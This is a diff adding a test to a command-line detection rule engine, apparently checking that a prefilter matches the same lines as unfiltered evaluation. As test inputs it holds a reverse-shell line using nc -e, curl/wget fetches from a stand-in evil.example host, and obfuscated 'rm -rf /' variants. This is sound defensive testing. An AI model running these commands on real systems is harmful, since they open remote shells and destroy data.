@@ -67,6 +67,43 @@ describe('prefilter on plain lines', () => {
     expect(ids(withPrefilter.evaluate(event))).toEqual(expected);
   });
 
+  it('runs only the `any` children whose condition the line meets, with the same leaves', () => {
+    const gated = loadRuleSet([
+      rule('SW-TST-0101', {
+        any: [
+          anyCommand({ program: 'curl', anyArg: { containsI: 'evil' } }),
+          { fact: 'commandLine', operator: 'containsI', value: 'wget' },
+          // No necessary condition: runs whatever the line.
+          { fact: 'process', path: '$.exit_code', operator: 'equal', value: 7 },
+          anyCommand({ program: 'nc', hasAnyFlag: ['e'] }),
+        ],
+      }),
+    ]);
+    if (!gated.ok) throw new Error(formatRuleProblems(gated.errors));
+    expect(compileRuleSet(gated.ruleSet).prefilterStats?.gatedRules).toBe(1);
+    const on = compileRuleSet(gated.ruleSet);
+    const off = compileRuleSet(gated.ruleSet, { prefilter: false });
+    const lines = [
+      'curl http://evil.example/x',
+      'curl http://good.example/x; wget http://evil.example/',
+      'nc -e /bin/sh 10.0.0.1 4444',
+      'nc -l 4444',
+      'ls',
+      'curl -o x http://a/ ; nc -e sh b 1',
+    ];
+    let matched = 0;
+    for (const line of lines) {
+      for (const process of [{ command_line: line }, { command_line: line, exit_code: 7 }]) {
+        const event = commandEvent(line, { process });
+        const expected = off.evaluate(event);
+        expect(on.evaluate(event)).toEqual(expected);
+        matched += expected.length;
+      }
+    }
+    // Not vacuous: 4 lines match by their words, and all 6 again with exit code 7.
+    expect(matched).toBe(4 + 6);
+  });
+
   it('takes lines the parser rewrites to the full path', () => {
     for (const line of [`r''m -rf /`, 'r"m" x', 'r\\m x', '$(echo rm) x', '`id`', 'rm ÿ'])
       expect(isPlainLine(line)).toBe(false);
